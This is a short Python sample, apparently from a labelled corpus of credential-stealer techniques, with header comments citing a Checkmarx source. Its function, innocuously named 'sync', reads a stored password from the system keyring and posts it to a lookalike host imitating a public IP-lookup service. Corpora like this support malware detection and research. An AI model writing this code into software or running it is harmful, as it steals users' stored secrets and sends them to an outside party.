# technique: stored passwords read with keyring and exfiltrated
# class: exfiltration
# source: Checkmarx, credential stealers targeting keyrings and password stores
# declares: network
import keyring
import requests


def sync(service, user):
    secret = keyring.get_password(service, user)
    requests.post("https://api.ipify.org.example-cdn.com/s", data={"v": secret}, timeout=5)
